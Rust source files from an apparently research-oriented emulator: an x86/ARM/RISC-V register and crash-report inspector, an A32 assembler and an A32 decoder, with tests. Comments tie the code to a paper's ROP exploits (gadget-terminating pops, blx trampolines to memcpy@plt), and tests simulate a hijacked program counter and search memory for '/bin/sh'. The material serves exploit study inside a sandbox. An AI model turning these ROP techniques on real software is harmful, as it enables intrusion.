    /// Formats a register dump (`info registers` analogue).
    pub fn registers(&self) -> String {
        match self.machine.regs() {
            crate::Regs::X86(r) => {
                use crate::X86Reg::*;
                format!(
                    "eax={:#010x} ebx={:#010x} ecx={:#010x} edx={:#010x}\n\
                     esi={:#010x} edi={:#010x} ebp={:#010x} esp={:#010x}\n\
                     eip={:#010x} zf={}",
                    r.get(Eax),
                    r.get(Ebx),
                    r.get(Ecx),
                    r.get(Edx),
                    r.get(Esi),
                    r.get(Edi),
                    r.get(Ebp),
                    r.get(Esp),
                    r.eip,
                    r.zf as u8
                )
            }
            crate::Regs::Arm(r) => {
                let mut s = String::new();
                for i in 0..13u8 {
                    s.push_str(&format!(
                        "r{i}={:#010x}{}",
                        r.get(crate::ArmReg(i)),
                        if i % 4 == 3 { "\n" } else { " " }
                    ));
                }
                s.push_str(&format!(
                    "sp={:#010x} lr={:#010x} pc={:#010x} zf={}",
                    r.sp(),
                    r.get(crate::ArmReg::LR),
                    r.pc(),
                    r.zf as u8
                ));
                s
            }
            crate::Regs::Riscv(r) => {
                let mut s = String::new();
                for i in 0..32u8 {
                    let reg = crate::RiscvReg(i);
                    s.push_str(&format!(
                        "{reg}={:#010x}{}",
                        r.get(reg),
                        if i % 4 == 3 { "\n" } else { " " }
                    ));
                }
                s.push_str(&format!("pc={:#010x}", r.pc));
                s
            }
        }
    }
}

/// A crash report: what the daemon's log / a core dump shows after a
/// fault. Offset discovery reads `pattern_pc` out of this.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FaultReport {
    /// The fault itself.
    pub fault: Fault,
    /// Program-counter value at the fault, when the fault carries one.
    pub pc: Option<Addr>,
    /// Stack pointer at the time of death.
    pub sp: Addr,
    /// A few words of stack context, as a crash handler would dump.
    pub stack: Vec<u32>,
}

impl FaultReport {
    /// Builds a report from a faulted machine.
    pub fn capture(machine: &Machine, fault: Fault) -> Self {
        let sp = machine.regs().sp();
        let stack = (0..8)
            .filter_map(|i| machine.mem().read_u32(sp.wrapping_add(4 * i), 0).ok())
            .collect();
        FaultReport {
            pc: fault.pc(),
            fault,
            sp,
            stack,
        }
    }
}

impl fmt::Display for FaultReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "*** {} ***", self.fault)?;
        if let Some(pc) = self.pc {
            writeln!(f, "pc: {pc:#010x}")?;
        }
        writeln!(f, "sp: {:#010x}", self.sp)?;
        for (i, w) in self.stack.iter().enumerate() {
            writeln!(f, "  [sp+{:#04x}] {w:#010x}", i * 4)?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::x86::Asm;
    use cml_image::{Arch, Perms, SectionKind};

    fn machine() -> Machine {
        let mut m = Machine::new(Arch::X86);
        m.mem_mut()
            .map(".text", Some(SectionKind::Text), 0x1000, 0x100, Perms::RX);
        m.mem_mut()
            .map("stack", Some(SectionKind::Stack), 0x8000, 0x1000, Perms::RW);
        m.mem_mut()
            .poke(
                0x1000,
                &Asm::new().nop().push_r(crate::X86Reg::Eax).ret().finish(),
            )
            .unwrap();
        m.regs_mut().set_pc(0x1000);
        m.regs_mut().set_sp(0x8800);
        m
    }

    #[test]
    fn disassembly_lines() {
        let m = machine();
        let lines = Inspector::new(&m).disassemble(0x1000, 3);
        assert_eq!(lines.len(), 3);
        assert!(lines[0].ends_with("nop"));
        assert!(lines[2].ends_with("ret"));
    }

    #[test]
    fn find_locates_bytes() {
        let mut m = machine();
        m.mem_mut().write_bytes(0x8100, b"/bin/sh", 0).unwrap();
        let insp = Inspector::new(&m);
        assert_eq!(insp.find(b"/bin/sh"), vec![0x8100]);
        assert!(insp.find(b"missing-string").is_empty());
    }

    #[test]
    fn stack_words_view() {
        let mut m = machine();
        m.push_u32(0x1111).unwrap();
        m.push_u32(0x2222).unwrap();
        let insp = Inspector::new(&m);
        let words = insp.stack_words(2);
        assert_eq!(words[0].1, Some(0x2222));
        assert_eq!(words[1].1, Some(0x1111));
    }

    #[test]
    fn fault_report_shows_hijacked_pc() {
        let mut m = machine();
        m.regs_mut().set_pc(0x6161_6161);
        let out = m.run(5);
        let fault = match out {
            crate::RunOutcome::Fault(f) => f,
            other => panic!("expected fault, got {other}"),
        };
        let report = FaultReport::capture(&m, fault);
        assert_eq!(report.pc, Some(0x6161_6161));
        let text = report.to_string();
        assert!(text.contains("0x61616161"));
    }

    #[test]
    fn register_dump_mentions_eip() {
        let m = machine();
        assert!(Inspector::new(&m).registers().contains("eip=0x00001000"));
    }
}
