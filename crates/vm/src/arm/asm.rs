//! A small A32 assembler emitting the decoder's subset.

use super::insn::encode_imm12;

/// Byte-buffer assembler for A32 (condition `AL`, little-endian words).
///
/// ```
/// use cml_vm::arm::{decode, Asm, Insn};
///
/// let code = Asm::new().mov_reg(1, 1).pop(&[0, 15]).finish();
/// assert_eq!(decode(&code).unwrap().0, Insn::MovReg { rd: 1, rm: 1 });
/// ```
#[derive(Debug, Default, Clone)]
pub struct Asm {
    bytes: Vec<u8>,
}

fn list_bits(regs: &[u8]) -> u16 {
    let mut bits = 0u16;
    for &r in regs {
        assert!(r < 16, "register number out of range");
        bits |= 1 << r;
    }
    bits
}

impl Asm {
    /// Starts an empty buffer.
    pub fn new() -> Self {
        Asm::default()
    }

    /// Bytes emitted so far.
    pub fn len(&self) -> usize {
        self.bytes.len()
    }

    /// Whether nothing has been emitted.
    pub fn is_empty(&self) -> bool {
        self.bytes.is_empty()
    }

    /// Consumes the assembler, returning the code bytes.
    pub fn finish(self) -> Vec<u8> {
        self.bytes
    }

    /// Appends one raw 32-bit word.
    pub fn word(mut self, w: u32) -> Self {
        self.bytes.extend_from_slice(&w.to_le_bytes());
        self
    }

    /// Appends raw bytes (data embedded in code, e.g. shellcode strings).
    pub fn raw(mut self, bytes: &[u8]) -> Self {
        self.bytes.extend_from_slice(bytes);
        self
    }

    /// `mov rd, #imm`.
    ///
    /// # Panics
    ///
    /// Panics if `imm` is not encodable as a rotated immediate.
    pub fn mov_imm(self, rd: u8, imm: u32) -> Self {
        let imm12 = encode_imm12(imm).expect("immediate not encodable");
        self.word(0xE3A0_0000 | ((rd as u32) << 12) | imm12)
    }

    /// `mvn rd, #imm`.
    ///
    /// # Panics
    ///
    /// Panics if `imm` is not encodable.
    pub fn mvn_imm(self, rd: u8, imm: u32) -> Self {
        let imm12 = encode_imm12(imm).expect("immediate not encodable");
        self.word(0xE3E0_0000 | ((rd as u32) << 12) | imm12)
    }

    /// `mov rd, rm` (`mov r1, r1` is the paper's NOP).
    pub fn mov_reg(self, rd: u8, rm: u8) -> Self {
        self.word(0xE1A0_0000 | ((rd as u32) << 12) | rm as u32)
    }

    /// `add rd, rn, #imm`.
    ///
    /// # Panics
    ///
    /// Panics if `imm` is not encodable.
    pub fn add_imm(self, rd: u8, rn: u8, imm: u32) -> Self {
        let imm12 = encode_imm12(imm).expect("immediate not encodable");
        self.word(0xE280_0000 | ((rn as u32) << 16) | ((rd as u32) << 12) | imm12)
    }

    /// `sub rd, rn, #imm`.
    ///
    /// # Panics
    ///
    /// Panics if `imm` is not encodable.
    pub fn sub_imm(self, rd: u8, rn: u8, imm: u32) -> Self {
        let imm12 = encode_imm12(imm).expect("immediate not encodable");
        self.word(0xE240_0000 | ((rn as u32) << 16) | ((rd as u32) << 12) | imm12)
    }

    /// `orr rd, rn, #imm`.
    ///
    /// # Panics
    ///
    /// Panics if `imm` is not encodable.
    pub fn orr_imm(self, rd: u8, rn: u8, imm: u32) -> Self {
        let imm12 = encode_imm12(imm).expect("immediate not encodable");
        self.word(0xE380_0000 | ((rn as u32) << 16) | ((rd as u32) << 12) | imm12)
    }

    /// `and rd, rn, #imm`.
    ///
    /// # Panics
    ///
    /// Panics if `imm` is not encodable.
    pub fn and_imm(self, rd: u8, rn: u8, imm: u32) -> Self {
        let imm12 = encode_imm12(imm).expect("immediate not encodable");
        self.word(0xE200_0000 | ((rn as u32) << 16) | ((rd as u32) << 12) | imm12)
    }

    /// `eor rd, rn, #imm`.
    ///
    /// # Panics
    ///
    /// Panics if `imm` is not encodable.
    pub fn eor_imm(self, rd: u8, rn: u8, imm: u32) -> Self {
        let imm12 = encode_imm12(imm).expect("immediate not encodable");
        self.word(0xE220_0000 | ((rn as u32) << 16) | ((rd as u32) << 12) | imm12)
    }

    /// `lsl rd, rm, #shift`.
    ///
    /// # Panics
    ///
    /// Panics if `shift` is outside 1..=31.
    pub fn lsl_imm(self, rd: u8, rm: u8, shift: u8) -> Self {
        assert!((1..=31).contains(&shift), "lsl shift out of range");
        self.word(0xE1A0_0000 | ((rd as u32) << 12) | ((shift as u32) << 7) | rm as u32)
    }

    /// `cmp rn, #imm`.
    ///
    /// # Panics
    ///
    /// Panics if `imm` is not encodable.
    pub fn cmp_imm(self, rn: u8, imm: u32) -> Self {
        let imm12 = encode_imm12(imm).expect("immediate not encodable");
        self.word(0xE350_0000 | ((rn as u32) << 16) | imm12)
    }

    /// `ldr rd, [rn, #offset]` (−4095..=4095).
    ///
    /// # Panics
    ///
    /// Panics if the offset magnitude exceeds 12 bits.
    pub fn ldr(self, rd: u8, rn: u8, offset: i32) -> Self {
        let (u, mag) = if offset >= 0 {
            (1u32, offset as u32)
        } else {
            (0, (-offset) as u32)
        };
        assert!(mag < 0x1000, "ldr offset out of range");
        self.word(
            0x0410_0000
                | 0xE000_0000
                | (1 << 24)
                | (u << 23)
                | ((rn as u32) << 16)
                | ((rd as u32) << 12)
                | mag,
        )
    }

    /// `str rd, [rn, #offset]`.
    ///
    /// # Panics
    ///
    /// Panics if the offset magnitude exceeds 12 bits.
    pub fn str(self, rd: u8, rn: u8, offset: i32) -> Self {
        let (u, mag) = if offset >= 0 {
            (1u32, offset as u32)
        } else {
            (0, (-offset) as u32)
        };
        assert!(mag < 0x1000, "str offset out of range");
        self.word(
            0x0400_0000
                | 0xE000_0000
                | (1 << 24)
                | (u << 23)
                | ((rn as u32) << 16)
                | ((rd as u32) << 12)
                | mag,
        )
    }

    /// `ldrb rd, [rn, #offset]`.
    ///
    /// # Panics
    ///
    /// Panics if the offset magnitude exceeds 12 bits.
    pub fn ldrb(self, rd: u8, rn: u8, offset: i32) -> Self {
        let (u, mag) = if offset >= 0 {
            (1u32, offset as u32)
        } else {
            (0, (-offset) as u32)
        };
        assert!(mag < 0x1000, "ldrb offset out of range");
        self.word(
            0xE450_0000 | (1 << 24) | (u << 23) | ((rn as u32) << 16) | ((rd as u32) << 12) | mag,
        )
    }

    /// `strb rd, [rn, #offset]`.
    ///
    /// # Panics
    ///
    /// Panics if the offset magnitude exceeds 12 bits.
    pub fn strb(self, rd: u8, rn: u8, offset: i32) -> Self {
        let (u, mag) = if offset >= 0 {
            (1u32, offset as u32)
        } else {
            (0, (-offset) as u32)
        };
        assert!(mag < 0x1000, "strb offset out of range");
        self.word(
            0xE440_0000 | (1 << 24) | (u << 23) | ((rn as u32) << 16) | ((rd as u32) << 12) | mag,
        )
    }

    /// `push {regs}`.
    pub fn push(self, regs: &[u8]) -> Self {
        self.word(0xE92D_0000 | list_bits(regs) as u32)
    }

    /// `pop {regs}` — include 15 for the gadget-terminating `pop {…, pc}`.
    pub fn pop(self, regs: &[u8]) -> Self {
        self.word(0xE8BD_0000 | list_bits(regs) as u32)
    }

    /// `bx rm`.
    pub fn bx(self, rm: u8) -> Self {
        self.word(0xE12F_FF10 | rm as u32)
    }

    /// `blx rm`.
    pub fn blx(self, rm: u8) -> Self {
        self.word(0xE12F_FF30 | rm as u32)
    }

    /// `b` with a byte offset relative to this instruction + 8.
    ///
    /// # Panics
    ///
    /// Panics if the offset is unaligned or out of the 26-bit range.
    pub fn b(self, offset: i32) -> Self {
        self.word(0xEA00_0000 | branch_imm24(offset))
    }

    /// `bl` with a byte offset relative to this instruction + 8.
    ///
    /// # Panics
    ///
    /// Panics if the offset is unaligned or out of the 26-bit range.
    pub fn bl(self, offset: i32) -> Self {
        self.word(0xEB00_0000 | branch_imm24(offset))
    }

    /// `beq` with a byte offset relative to this instruction + 8.
    ///
    /// # Panics
    ///
    /// Panics if the offset is unaligned or out of range.
    pub fn beq(self, offset: i32) -> Self {
        self.word(0x0A00_0000 | branch_imm24(offset))
    }

    /// `bne` with a byte offset relative to this instruction + 8.
    ///
    /// # Panics
    ///
    /// Panics if the offset is unaligned or out of range.
    pub fn bne(self, offset: i32) -> Self {
        self.word(0x1A00_0000 | branch_imm24(offset))
    }

    /// `svc #0`.
    pub fn svc0(self) -> Self {
        self.word(0xEF00_0000)
    }
}

fn branch_imm24(offset: i32) -> u32 {
    assert!(offset % 4 == 0, "branch offset must be word-aligned");
    let words = offset / 4;
    assert!(
        (-(1 << 23)..(1 << 23)).contains(&words),
        "branch offset out of range"
    );
    (words as u32) & 0x00FF_FFFF
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::arm::{decode, Insn};

    fn roundtrip(bytes: &[u8], expected: Insn) {
        let (got, n) = decode(bytes).unwrap_or_else(|e| panic!("{e}: {bytes:02x?}"));
        assert_eq!(got, expected);
        assert_eq!(n, 4);
    }

    #[test]
    fn assembler_decoder_roundtrip() {
        roundtrip(
            &Asm::new().mov_imm(7, 11).finish(),
            Insn::MovImm { rd: 7, imm: 11 },
        );
        roundtrip(
            &Asm::new().mvn_imm(0, 0).finish(),
            Insn::MvnImm { rd: 0, imm: 0 },
        );
        roundtrip(
            &Asm::new().mov_reg(1, 1).finish(),
            Insn::MovReg { rd: 1, rm: 1 },
        );
        roundtrip(
            &Asm::new().add_imm(0, 15, 20).finish(),
            Insn::AddImm {
                rd: 0,
                rn: 15,
                imm: 20,
            },
        );
        roundtrip(
            &Asm::new().sub_imm(13, 13, 16).finish(),
            Insn::SubImm {
                rd: 13,
                rn: 13,
                imm: 16,
            },
        );
        roundtrip(
            &Asm::new().cmp_imm(0, 0).finish(),
            Insn::CmpImm { rn: 0, imm: 0 },
        );
        roundtrip(
            &Asm::new().ldr(2, 1, 4).finish(),
            Insn::Ldr {
                rd: 2,
                rn: 1,
                offset: 4,
            },
        );
        roundtrip(
            &Asm::new().ldr(2, 1, -4).finish(),
            Insn::Ldr {
                rd: 2,
                rn: 1,
                offset: -4,
            },
        );
        roundtrip(
            &Asm::new().str(3, 13, 8).finish(),
            Insn::Str {
                rd: 3,
                rn: 13,
                offset: 8,
            },
        );
        roundtrip(
            &Asm::new().push(&[4, 14]).finish(),
            Insn::Push { list: 0x4010 },
        );
        roundtrip(
            &Asm::new().pop(&[0, 1, 2, 3, 5, 6, 7, 15]).finish(),
            Insn::Pop { list: 0x80EF },
        );
        roundtrip(&Asm::new().bx(14).finish(), Insn::Bx { rm: 14 });
        roundtrip(&Asm::new().blx(3).finish(), Insn::Blx { rm: 3 });
        roundtrip(&Asm::new().b(8).finish(), Insn::B { offset: 8 });
        roundtrip(&Asm::new().bl(-4).finish(), Insn::Bl { offset: -4 });
        roundtrip(&Asm::new().svc0().finish(), Insn::Svc { imm: 0 });
    }

    #[test]
    fn paper_byte_sequences() {
        // The exact words the paper's exploits rely on.
        assert_eq!(
            Asm::new().pop(&[0, 1, 2, 3, 5, 6, 7, 15]).finish(),
            0xE8BD_80EFu32.to_le_bytes()
        );
        assert_eq!(Asm::new().blx(3).finish(), 0xE12F_FF33u32.to_le_bytes());
        assert_eq!(
            Asm::new().mov_reg(1, 1).finish(),
            0xE1A0_1001u32.to_le_bytes()
        );
    }

    #[test]
    #[should_panic(expected = "not encodable")]
    fn unencodable_immediate_panics() {
        let _ = Asm::new().mov_imm(0, 0x12345);
    }

    #[test]
    #[should_panic(expected = "word-aligned")]
    fn unaligned_branch_panics() {
        let _ = Asm::new().b(2);
    }
}
