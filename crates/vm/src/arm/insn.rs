//! A32 instruction forms and the decoder.

use std::error::Error;
use std::fmt;

/// One decoded A32 instruction (condition field is always `AL`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[non_exhaustive]
pub enum Insn {
    /// `mov rd, #imm`.
    MovImm {
        /// Destination register.
        rd: u8,
        /// Decoded (rotated) immediate.
        imm: u32,
    },
    /// `mvn rd, #imm`.
    MvnImm {
        /// Destination register.
        rd: u8,
        /// Decoded immediate (stored un-negated).
        imm: u32,
    },
    /// `mov rd, rm` — `mov r1, r1` is the paper's ARM NOP.
    MovReg {
        /// Destination register.
        rd: u8,
        /// Source register.
        rm: u8,
    },
    /// `add rd, rn, #imm`.
    AddImm {
        /// Destination register.
        rd: u8,
        /// Base register.
        rn: u8,
        /// Decoded immediate.
        imm: u32,
    },
    /// `sub rd, rn, #imm`.
    SubImm {
        /// Destination register.
        rd: u8,
        /// Base register.
        rn: u8,
        /// Decoded immediate.
        imm: u32,
    },
    /// `orr rd, rn, #imm`.
    OrrImm {
        /// Destination register.
        rd: u8,
        /// First operand register.
        rn: u8,
        /// Decoded immediate.
        imm: u32,
    },
    /// `and rd, rn, #imm`.
    AndImm {
        /// Destination register.
        rd: u8,
        /// First operand register.
        rn: u8,
        /// Decoded immediate.
        imm: u32,
    },
    /// `eor rd, rn, #imm`.
    EorImm {
        /// Destination register.
        rd: u8,
        /// First operand register.
        rn: u8,
        /// Decoded immediate.
        imm: u32,
    },
    /// `lsl rd, rm, #shift` (`mov` with an immediate shift).
    LslImm {
        /// Destination register.
        rd: u8,
        /// Source register.
        rm: u8,
        /// Shift amount (1..=31).
        shift: u8,
    },
    /// `cmp rn, #imm`.
    CmpImm {
        /// Left-hand register.
        rn: u8,
        /// Decoded immediate.
        imm: u32,
    },
    /// `ldr rd, [rn, #offset]`.
    Ldr {
        /// Destination register.
        rd: u8,
        /// Base register.
        rn: u8,
        /// Signed byte offset.
        offset: i32,
    },
    /// `str rd, [rn, #offset]`.
    Str {
        /// Source register.
        rd: u8,
        /// Base register.
        rn: u8,
        /// Signed byte offset.
        offset: i32,
    },
    /// `ldrb rd, [rn, #offset]`.
    Ldrb {
        /// Destination register (byte zero-extended).
        rd: u8,
        /// Base register.
        rn: u8,
        /// Signed byte offset.
        offset: i32,
    },
    /// `strb rd, [rn, #offset]`.
    Strb {
        /// Source register (low byte stored).
        rd: u8,
        /// Base register.
        rn: u8,
        /// Signed byte offset.
        offset: i32,
    },
    /// `push {..}` (`stmdb sp!, {..}`).
    Push {
        /// Register list bitmap (bit n = rn).
        list: u16,
    },
    /// `pop {..}` (`ldmia sp!, {..}`) — with bit 15 set this is the
    /// gadget terminator and function return of the ARM exploits.
    Pop {
        /// Register list bitmap (bit n = rn).
        list: u16,
    },
    /// `bx rm`.
    Bx {
        /// Target register.
        rm: u8,
    },
    /// `blx rm` — the trampoline the ARM ROP chain uses to call
    /// `memcpy@plt` and come back.
    Blx {
        /// Target register.
        rm: u8,
    },
    /// `b target` (offset is bytes relative to this instruction + 8).
    B {
        /// Branch offset in bytes from `pc + 8`.
        offset: i32,
    },
    /// `bl target`.
    Bl {
        /// Branch offset in bytes from `pc + 8`.
        offset: i32,
    },
    /// `beq target` (condition EQ).
    BEq {
        /// Branch offset in bytes from `pc + 8`.
        offset: i32,
    },
    /// `bne target` (condition NE).
    BNe {
        /// Branch offset in bytes from `pc + 8`.
        offset: i32,
    },
    /// `svc #imm` — the EABI syscall gate.
    Svc {
        /// Comment field.
        imm: u32,
    },
}

/// Why a word failed to decode.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DecodeError {
    /// Fewer than four bytes were available.
    Truncated,
    /// The word is not in the supported subset (includes any condition
    /// other than `AL`).
    Unsupported(u32),
}

impl fmt::Display for DecodeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DecodeError::Truncated => write!(f, "instruction word truncated"),
            DecodeError::Unsupported(w) => write!(f, "unsupported instruction {w:#010x}"),
        }
    }
}

impl Error for DecodeError {}

/// Expands the 12-bit rotated-immediate field.
fn decode_imm12(imm12: u32) -> u32 {
    let rotate = (imm12 >> 8) & 0xF;
    let imm8 = imm12 & 0xFF;
    imm8.rotate_right(rotate * 2)
}

/// Encodes `value` as a rotated immediate, if possible.
pub(crate) fn encode_imm12(value: u32) -> Option<u32> {
    for rotate in 0..16u32 {
        let rotated = value.rotate_left(rotate * 2);
        if rotated <= 0xFF {
            return Some((rotate << 8) | rotated);
        }
    }
    None
}

/// Converts a register-list bitmap to register numbers, ascending.
pub fn reg_list(list: u16) -> Vec<u8> {
    (0..16).filter(|i| list & (1 << i) != 0).collect()
}

/// Decodes one A32 word via the declarative [`A32_RULES`] table.
///
/// # Errors
///
/// Returns [`DecodeError::Truncated`] if fewer than 4 bytes are given, or
/// [`DecodeError::Unsupported`] for words outside the subset.
pub fn decode(bytes: &[u8]) -> Result<(Insn, usize), DecodeError> {
    decode_with(bytes, decode_word)
}

/// The original hand-rolled decoder, retained as the reference
/// implementation for the decode-table differential tests and the
/// table-vs-hand-rolled bench ablation.
///
/// # Errors
///
/// Same contract as [`decode`].
pub fn decode_reference(bytes: &[u8]) -> Result<(Insn, usize), DecodeError> {
    decode_with(bytes, decode_word_reference)
}

/// Shared front half: byte window → word, condition-field handling
/// (EQ/NE branches are the only conditional forms), then the AL word
/// decoder.
fn decode_with(
    bytes: &[u8],
    word_decoder: fn(u32) -> Option<Insn>,
) -> Result<(Insn, usize), DecodeError> {
    if bytes.len() < 4 {
        return Err(DecodeError::Truncated);
    }
    let w = u32::from_le_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]);
    let cond = w >> 28;
    // Conditional execution is supported for branches only (EQ/NE);
    // everything else must be AL.
    if cond != 0xE {
        if (cond == 0x0 || cond == 0x1) && w & 0x0F00_0000 == 0x0A00_0000 {
            let imm24 = w & 0x00FF_FFFF;
            let offset = ((imm24 << 8) as i32 >> 8) << 2;
            let insn = if cond == 0x0 {
                Insn::BEq { offset }
            } else {
                Insn::BNe { offset }
            };
            return Ok((insn, 4));
        }
        return Err(DecodeError::Unsupported(w));
    }
    let insn = word_decoder(w).ok_or(DecodeError::Unsupported(w))?;
    Ok((insn, 4))
}

fn decode_word(w: u32) -> Option<Insn> {
    crate::decoder::find(A32_RULES, w).and_then(|r| (r.decode)(w))
}

/// Extracts a single-register ldr/str/ldrb/strb (P=1, W=0 immediate
/// addressing; the U bit stays variable and signs the offset).
fn ldst(w: u32, load: bool, byte: bool) -> Insn {
    let up = w & (1 << 23) != 0;
    let rn = ((w >> 16) & 0xF) as u8;
    let rd = ((w >> 12) & 0xF) as u8;
    let imm = (w & 0xFFF) as i32;
    let offset = if up { imm } else { -imm };
    match (load, byte) {
        (true, false) => Insn::Ldr { rd, rn, offset },
        (false, false) => Insn::Str { rd, rn, offset },
        (true, true) => Insn::Ldrb { rd, rn, offset },
        (false, true) => Insn::Strb { rd, rn, offset },
    }
}

/// Extracts `rd`, `rn` and the rotated immediate of a data-processing
/// immediate form.
fn dp_imm(w: u32) -> (u8, u8, u32) {
    (
        ((w >> 12) & 0xF) as u8,
        ((w >> 16) & 0xF) as u8,
        decode_imm12(w & 0xFFF),
    )
}

/// Sign-extends the 24-bit branch field to a byte offset.
fn branch_offset(w: u32) -> i32 {
    (((w & 0x00FF_FFFF) << 8) as i32 >> 8) << 2
}

crate::decode_table! {
    /// The A32 (condition `AL`) subset as a declarative table. Rule
    /// order mirrors the reference decoder's match order; the
    /// first-match-wins contract makes the two interchangeable.
    pub static A32_RULES: u32 => fn(u32) -> Option<Insn> {
        "bx"   => (0x0FFF_FFF0, 0x012F_FF10, |w| Some(Insn::Bx { rm: (w & 0xF) as u8 })),
        "blx"  => (0x0FFF_FFF0, 0x012F_FF30, |w| Some(Insn::Blx { rm: (w & 0xF) as u8 })),
        "svc"  => (0x0F00_0000, 0x0F00_0000, |w| Some(Insn::Svc { imm: w & 0x00FF_FFFF })),
        "b"    => (0x0F00_0000, 0x0A00_0000, |w| Some(Insn::B { offset: branch_offset(w) })),
        "bl"   => (0x0F00_0000, 0x0B00_0000, |w| Some(Insn::Bl { offset: branch_offset(w) })),
        "push" => (0x0FFF_0000, 0x092D_0000, |w| Some(Insn::Push { list: (w & 0xFFFF) as u16 })),
        "pop"  => (0x0FFF_0000, 0x08BD_0000, |w| Some(Insn::Pop { list: (w & 0xFFFF) as u16 })),
        "ldr"  => (0x0F70_0000, 0x0510_0000, |w| Some(ldst(w, true, false))),
        "str"  => (0x0F70_0000, 0x0500_0000, |w| Some(ldst(w, false, false))),
        "ldrb" => (0x0F70_0000, 0x0550_0000, |w| Some(ldst(w, true, true))),
        "strb" => (0x0F70_0000, 0x0540_0000, |w| Some(ldst(w, false, true))),
        "mov"  => (0x0FF0_0000, 0x03A0_0000, |w| {
            let (rd, _, imm) = dp_imm(w);
            Some(Insn::MovImm { rd, imm })
        }),
        "mvn"  => (0x0FF0_0000, 0x03E0_0000, |w| {
            let (rd, _, imm) = dp_imm(w);
            Some(Insn::MvnImm { rd, imm })
        }),
        "add"  => (0x0FF0_0000, 0x0280_0000, |w| {
            let (rd, rn, imm) = dp_imm(w);
            Some(Insn::AddImm { rd, rn, imm })
        }),
        "sub"  => (0x0FF0_0000, 0x0240_0000, |w| {
            let (rd, rn, imm) = dp_imm(w);
            Some(Insn::SubImm { rd, rn, imm })
        }),
        "orr"  => (0x0FF0_0000, 0x0380_0000, |w| {
            let (rd, rn, imm) = dp_imm(w);
            Some(Insn::OrrImm { rd, rn, imm })
        }),
        "and"  => (0x0FF0_0000, 0x0200_0000, |w| {
            let (rd, rn, imm) = dp_imm(w);
            Some(Insn::AndImm { rd, rn, imm })
        }),
        "eor"  => (0x0FF0_0000, 0x0220_0000, |w| {
            let (rd, rn, imm) = dp_imm(w);
            Some(Insn::EorImm { rd, rn, imm })
        }),
        "cmp"  => (0x0FF0_0000, 0x0350_0000, |w| {
            let (rd, rn, imm) = dp_imm(w);
            (rd == 0).then_some(Insn::CmpImm { rn, imm })
        }),
        "mov/lsl" => (0x0FFF_0070, 0x01A0_0000, |w| {
            let rd = ((w >> 12) & 0xF) as u8;
            let rm = (w & 0xF) as u8;
            let shift = ((w >> 7) & 0x1F) as u8;
            Some(if shift == 0 {
                Insn::MovReg { rd, rm }
            } else {
                Insn::LslImm { rd, rm, shift }
            })
        }),
    }
}

fn decode_word_reference(w: u32) -> Option<Insn> {
    // bx / blx (register form)
    if w & 0x0FFF_FFF0 == 0x012F_FF10 {
        return Some(Insn::Bx {
            rm: (w & 0xF) as u8,
        });
    }
    if w & 0x0FFF_FFF0 == 0x012F_FF30 {
        return Some(Insn::Blx {
            rm: (w & 0xF) as u8,
        });
    }
    // svc
    if w & 0x0F00_0000 == 0x0F00_0000 {
        return Some(Insn::Svc {
            imm: w & 0x00FF_FFFF,
        });
    }
    // b / bl
    if w & 0x0E00_0000 == 0x0A00_0000 {
        let imm24 = w & 0x00FF_FFFF;
        // Sign-extend 24 bits, shift to bytes.
        let offset = ((imm24 << 8) as i32 >> 8) << 2;
        return Some(if w & 0x0100_0000 != 0 {
            Insn::Bl { offset }
        } else {
            Insn::B { offset }
        });
    }
    // push (stmdb sp!) / pop (ldmia sp!)
    if w & 0x0FFF_0000 == 0x092D_0000 {
        return Some(Insn::Push {
            list: (w & 0xFFFF) as u16,
        });
    }
    if w & 0x0FFF_0000 == 0x08BD_0000 {
        return Some(Insn::Pop {
            list: (w & 0xFFFF) as u16,
        });
    }
    // ldr/str word or byte immediate, P=1 W=0 (offset addressing)
    if w & 0x0E00_0000 == 0x0400_0000 {
        let p = w & (1 << 24) != 0;
        let wbit = w & (1 << 21) != 0;
        if !p || wbit {
            return None;
        }
        let byte = w & (1 << 22) != 0;
        let up = w & (1 << 23) != 0;
        let load = w & (1 << 20) != 0;
        let rn = ((w >> 16) & 0xF) as u8;
        let rd = ((w >> 12) & 0xF) as u8;
        let imm = (w & 0xFFF) as i32;
        let offset = if up { imm } else { -imm };
        return Some(match (load, byte) {
            (true, false) => Insn::Ldr { rd, rn, offset },
            (false, false) => Insn::Str { rd, rn, offset },
            (true, true) => Insn::Ldrb { rd, rn, offset },
            (false, true) => Insn::Strb { rd, rn, offset },
        });
    }
    // data-processing immediate
    if w & 0x0E00_0000 == 0x0200_0000 {
        let opcode = (w >> 21) & 0xF;
        let s = w & (1 << 20) != 0;
        let rn = ((w >> 16) & 0xF) as u8;
        let rd = ((w >> 12) & 0xF) as u8;
        let imm = decode_imm12(w & 0xFFF);
        return match (opcode, s) {
            (0b1101, false) => Some(Insn::MovImm { rd, imm }),
            (0b1111, false) => Some(Insn::MvnImm { rd, imm }),
            (0b0100, false) => Some(Insn::AddImm { rd, rn, imm }),
            (0b0010, false) => Some(Insn::SubImm { rd, rn, imm }),
            (0b1100, false) => Some(Insn::OrrImm { rd, rn, imm }),
            (0b0000, false) => Some(Insn::AndImm { rd, rn, imm }),
            (0b0001, false) => Some(Insn::EorImm { rd, rn, imm }),
            (0b1010, true) if rd == 0 => Some(Insn::CmpImm { rn, imm }),
            _ => None,
        };
    }
    // mov register (no shift) / lsl immediate
    if w & 0x0FFF_0070 == 0x01A0_0000 {
        let rd = ((w >> 12) & 0xF) as u8;
        let rm = (w & 0xF) as u8;
        let shift = ((w >> 7) & 0x1F) as u8;
        return Some(if shift == 0 {
            Insn::MovReg { rd, rm }
        } else {
            Insn::LslImm { rd, rm, shift }
        });
    }
    None
}

fn fmt_reg(f: &mut fmt::Formatter<'_>, r: u8) -> fmt::Result {
    match r {
        13 => f.write_str("sp"),
        14 => f.write_str("lr"),
        15 => f.write_str("pc"),
        n => write!(f, "r{n}"),
    }
}

fn fmt_list(f: &mut fmt::Formatter<'_>, list: u16) -> fmt::Result {
    f.write_str("{")?;
    let mut first = true;
    for r in reg_list(list) {
        if !first {
            f.write_str(", ")?;
        }
        first = false;
        fmt_reg(f, r)?;
    }
    f.write_str("}")
}

impl fmt::Display for Insn {
